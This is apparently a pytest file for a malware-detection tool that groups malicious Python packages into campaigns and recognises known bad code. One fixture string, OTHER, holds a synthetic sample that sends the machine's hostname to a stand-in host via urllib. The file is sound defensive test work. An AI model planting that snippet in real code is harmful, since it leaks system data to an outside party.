from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import select, update

from antivenom import pipeline
from antivenom.catalog import goodcode, knowing
from antivenom.catalog.campaigns import group
from antivenom.catalog.importing import Options, import_samples
from antivenom.errors import TargetError
from antivenom.intake import from_bytes
from antivenom.judge import load_knowledge
from antivenom.likeness import Index, keys
from antivenom.likeness.container import Container
from antivenom.likeness.good import WHAT, Good, pack
from antivenom.likeness.making import make
from antivenom.store import Store, open_store, schema
from tests.catalog.sets import sdist, sealed_set
from tests.likeness.known import LIBRARY, THIEF, judged

OTHER = (
    "import platform, socket\n"
    + "".join(f"def step_{n}():\n    return platform.node() + str({n})\n\n" for n in range(20))
    + "import urllib.request\nurllib.request.urlopen('https://away.example/' + step_1())\n"
)


def members(*numbers: int) -> dict[str, bytes]:
    made = {f"bad{n}/1.0/bad{n}-1.0.tar.gz": sdist(f"bad{n}", near(n)) for n in numbers}
    made["odd/1.0/odd-1.0.tar.gz"] = sdist("odd", OTHER)
    return made


def near(n: int) -> str:
    return THIEF.replace("demo", f"bad{n}").replace("drop.", f"drop{n}.") + f"x_{n} = {n}\n"


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with open_store(str(tmp_path / "catalog.db")) as opened:
        bring(opened, tmp_path, 0, 1)
        yield opened


def bring(store: Store, folder: Path, *numbers: int) -> None:
    place = sealed_set(folder / f"set{len(numbers)}.zip", members(*numbers))
    import_samples(store, place, Options(source="ours", jobs=1))


def campaigns(store: Store) -> dict[str, str]:
    table, specimens = schema.campaign_members, schema.specimens
    query = select(specimens.c.name, table.c.campaign).join(
        specimens, specimens.c.id == table.c.specimen
    )
    with store.reading() as connection:
        return {row.name: row.campaign for row in connection.execute(query)}


def test_near_copies_are_one_campaign(store: Store) -> None:
    report = group(store)
    found = campaigns(store)
    assert found["bad0"] == found["bad1"] != found["odd"]
    assert (report.specimens, report.clusters, report.campaigns) == (3, 2, 1)
    assert report.largest[0][1].startswith("bad0-")


def test_again_changes_nothing_and_more_specimens_keep_its_id_and_name(
    store: Store, tmp_path: Path
) -> None:
    group(store)
    before = campaigns(store)
    table = schema.campaigns
    with store.writing() as connection:
        renamed = update(table).where(table.c.id == before["bad0"]).values(name="ours")
        connection.execute(renamed)
    assert group(store).changed == 0
    bring(store, tmp_path, 0, 1, 2, 3)
    report = group(store)
    after = campaigns(store)
    assert after["bad0"] == after["bad3"] == before["bad0"]
    assert report.largest[0][1:] == ("ours", 4)


def test_what_the_catalog_knows_is_recognised_in_review(store: Store) -> None:
    group(store)
    with store.reading() as connection:
        known = list(knowing.of_store(connection, load_knowledge()))
        index = Index.of(make(known, knowing.groups(connection)))
    assert len(index) == 3
    profile = pipeline.observe(from_bytes(sdist("new", near(7)), "new-1.0.tar.gz"))
    rules = {finding.rule: finding for finding in judged(profile, index).findings}
    assert "(2 specimens)" in rules["supply/campaign-code"].reason


def test_labels_that_are_no_reason_are_not_recognised(store: Store) -> None:
    with store.writing() as connection:
        connection.execute(update(schema.specimens).values(label="placeholder"))
    with store.reading() as connection:
        assert list(knowing.of_store(connection, load_knowledge())) == []


def test_only_what_condemns_is_remembered() -> None:
    stolen = sdist("stolen", THIEF, **{"stolen/__init__.py": LIBRARY})
    profile = pipeline.observe(from_bytes(stolen, "stolen-1.0.tar.gz"))
    review = judged(profile, Index.of(make([], ())))
    known = knowing.known(profile, review, label="malware")
    setup = next(e.sha256 for e in profile.manifest if e.path.endswith("setup.py"))
    assert [text.sha256 for text in known.texts] == [setup]
    assert known.acts


def test_good_code_is_read_from_folders(tmp_path: Path) -> None:
    package = sdist("library", "", **{"library/__init__.py": LIBRARY})
    (tmp_path / "library-1.0.tar.gz").write_bytes(package)
    (tmp_path / "broken-1.0.whl").write_bytes(b"")
    (tmp_path / "notes.txt").write_text("nothing")
    told: list[tuple[int, int]] = []
    found, _ = goodcode.gather([tmp_path], jobs=1, tell=lambda *x: told.append(x))
    good = Good(Container.of(memoryview(pack(found)), WHAT))
    profile = pipeline.observe(from_bytes(package, "library-1.0.tar.gz"))
    entry = next(e for e in profile.manifest if e.path.endswith("__init__.py"))
    source = good.file(entry.sha256)
    assert source is not None
    assert (source.name, source.version) == ("library", "1.0")
    assert all(good.function(code) for name, code in entry.functions.items() if name)
    assert len(good.functions) == len({keys.of_code(c) for c in entry.functions.values()})
    assert told[-1] == (2, 2)


def test_a_folder_that_is_none_is_said(tmp_path: Path) -> None:
    with pytest.raises(TargetError, match="no such file or folder"):
        goodcode.gather([tmp_path / "none"], jobs=1)
